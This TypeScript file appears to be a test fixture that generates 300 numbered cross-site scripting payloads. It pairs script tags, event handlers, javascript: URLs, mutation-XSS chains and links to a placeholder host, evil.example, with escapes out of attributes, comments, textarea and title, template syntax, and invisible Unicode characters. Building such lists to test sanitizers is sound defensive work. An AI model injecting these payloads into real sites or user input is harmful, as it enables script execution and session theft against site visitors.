/** What somebody would write to make a page run it. Each runs `said()` or loads something if it is read as markup. */
const bodies = [
  "<script>said()</script>",
  "<img src=x onerror=said()>",
  "<svg onload=said()>",
  "<svg><script>said()</script></svg>",
  "<body onload=said()>",
  "<iframe srcdoc='<script>parent.said()</script>'></iframe>",
  "<details open ontoggle=said()>",
  "<input autofocus onfocus=said()>",
  "<a href=javascript:said()>x</a>",
  "<math><mtext><table><mglyph><style><img src=x onerror=said()>",
  "<form action=javascript:said()><button>x</button></form>",
  "<style>@import 'http://evil.example/x.css';</style>",
  "<link rel=stylesheet href=http://evil.example/x.css>",
  "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
  "<base href=http://evil.example/>",
  "<object data=javascript:said()>",
  "<embed src=http://evil.example/x.swf>",
  "<video><source onerror=said()></video>",
  "<template><script>said()</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=said()>'>",
];
// Ways out of where text may stand: an element, an attribute, a comment, a script, a raw-text element, an entity.
const before = [
  "",
  "\"'>",
  "</textarea>",
  "</title>",
  "</option></select>",
  "--><!-- -->",
  "]]>",
  '" onmouseover=said() x="',
  "' onfocus=said() autofocus '",
  "`\"'><",
  "&lt;/textarea&gt;&quot;",
  "javascript:/*--></title></style></textarea></script></xmp>",
  "\\u003cscript\\u003esaid()\\u003c/script\\u003e",
  `$\{said()}{{said()}}<%= said() %>`,
  "\u202e\u2066\u200b\ufeff",
];

/** 300 of them, each with its number, so that it can be found again. */
export const payloads: readonly string[] = before.flatMap((way, i) =>
  bodies.map((body, j) => `x5s${i * bodies.length + j} ${way}${body}`),
);
